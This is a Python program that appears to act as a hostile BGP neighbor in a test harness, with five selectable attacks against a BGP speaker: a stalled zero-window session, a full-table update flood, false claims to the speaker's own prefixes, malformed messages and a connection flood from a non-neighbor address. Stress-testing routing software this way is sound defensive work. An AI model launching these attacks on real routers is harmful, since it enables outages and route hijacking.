"""A neighbor that means harm, as a program of its own: what it sends is made beforehand, and nothing of it is Python's work.

It says as JSON lines what it does, and ends with its input.
"""

import argparse
import contextlib
import json
import resource
import selectors
import socket
import struct
import sys
import threading

import hostile_wire as wire

_REPEATED_OCTETS = 1 << 20  # short streams are sent many times in one call
_KEEPALIVE_S = 20.0
_CLAIMED = 5000  # routes of ours that it claims; fewer than what ends a session by default


def say(event: str, **more):
    print(json.dumps({"event": event, **more}), flush=True)


class Attack:
    """One session, or none, and the end of it all when the input ends."""

    def __init__(self, arguments):
        self.arguments = arguments
        self.ended = threading.Event()
        self.octets = 0
        self.connections = 0
        self.socket = None
        threading.Thread(target=self._await_end, daemon=True).start()

    def _await_end(self):
        while sys.stdin.readline():
            pass
        self.ended.set()
        if self.socket is not None:
            with contextlib.suppress(OSError):
                self.socket.shutdown(socket.SHUT_RDWR)  # ends a send that waits

    def connect(self, receive_buffer: "int | None" = None):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer is not None:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.bind((self.arguments.source, 0))
        self.socket.connect((self.arguments.target, self.arguments.port))
        self.connections = 1

    def establish(self):
        self.socket.sendall(wire.open_message(self.arguments.asn, self.arguments.source))
        self._await(wire.OPEN)
        self.socket.sendall(wire.keepalive())
        self._await(wire.KEEPALIVE)

    def _await(self, kind: int):
        head = self._exactly(19)
        self._exactly(struct.unpack("!H", head[16:18])[0] - 19)
        if head[18] != kind:
            raise SystemExit(f"a message of type {head[18]} came, not of type {kind}")

    def _exactly(self, count: int) -> bytes:
        out = b""
        while len(out) < count:
            got = self.socket.recv(count - len(out))
            if not got:
                raise SystemExit("the speaker closed the connection")
            out += got
        return out

    def _discard(self):
        """Reads all there is, or the speaker would be right to wait with its answers."""
        buffer = bytearray(1 << 18)
        with contextlib.suppress(OSError):
            while self.socket.recv_into(buffer):
                pass
        if not self.ended.is_set():
            say("down")

    def send_for_ever(self, stream: bytes):
        stream *= max(1, _REPEATED_OCTETS // len(stream))
        self.connect()
        self.establish()
        threading.Thread(target=self._discard, daemon=True).start()
        begun = False
        with contextlib.suppress(OSError):
            while not self.ended.is_set():
                self.socket.sendall(stream)
                self.octets += len(stream)
                if not begun:
                    say("begun")
                    begun = True

    def stuck(self):
        """A window that goes to zero and stays there, from a neighbor that is alive otherwise."""
        self.connect(receive_buffer=4096)
        self.establish()
        say("begun")
        while not self.ended.wait(_KEEPALIVE_S):
            self.socket.sendall(wire.keepalive())

    def flood(self):
        self.send_for_ever(wire.full_table(self.arguments.asn, self.arguments.prefixes))

    def claims(self):
        self.send_for_ever(wire.claims(self.arguments.asn, self.arguments.own, _CLAIMED))

    def malformed(self):
        self.send_for_ever(wire.malformed(self.arguments.asn, self.arguments.own))

    def dials(self):
        """So many connections at any time, every second of them from an address that is no neighbor's."""
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, self.arguments.connections + 64), hard))
        words = wire.open_message(self.arguments.asn, self.arguments.source)
        begun = False
        with selectors.DefaultSelector() as waiting:
            for number in range(self.arguments.connections):
                self._dial(waiting, number)
            while not self.ended.is_set():
                for key, events in waiting.select(0.1):
                    if not self._alive(key, events, words, waiting):
                        waiting.unregister(key.fileobj)
                        key.fileobj.close()
                        self._dial(waiting, key.data)
                if not begun and self.connections >= 2 * self.arguments.connections:
                    say("begun")
                    begun = True

    def _dial(self, waiting: selectors.BaseSelector, number: int):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # no TIME_WAIT
        sock.bind((self.arguments.source if number % 2 == 0 else self.arguments.stranger, 0))
        sock.connect_ex((self.arguments.target, self.arguments.port))
        self.connections += 1
        waiting.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, number)

    def _alive(self, key, events: int, words: bytes, waiting: selectors.BaseSelector) -> bool:
        try:
            if events & selectors.EVENT_WRITE:
                self.octets += key.fileobj.send(words)
                waiting.modify(key.fileobj, selectors.EVENT_READ, key.data)
                return True
            return bool(key.fileobj.recv(4096))
        except BlockingIOError:
            return True
        except OSError:
            return False


ATTACKS = {
    "stuck": Attack.stuck,
    "flood": Attack.flood,
    "claims": Attack.claims,
    "malformed": Attack.malformed,
    "dials": Attack.dials,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", required=True, help="the address of the neighbor")
    parser.add_argument("--stranger", required=True, help="an address of nobody")
    parser.add_argument("--asn", type=int, required=True)
    parser.add_argument("--own", required=True, help="a prefix of the speaker's")
    parser.add_argument("--prefixes", type=int, required=True)
    parser.add_argument("--connections", type=int, required=True)
    attack = Attack(parser.parse_args())
    ATTACKS[attack.arguments.attack](attack)
    say("did", octets=attack.octets, connections=attack.connections)


if __name__ == "__main__":
    main()
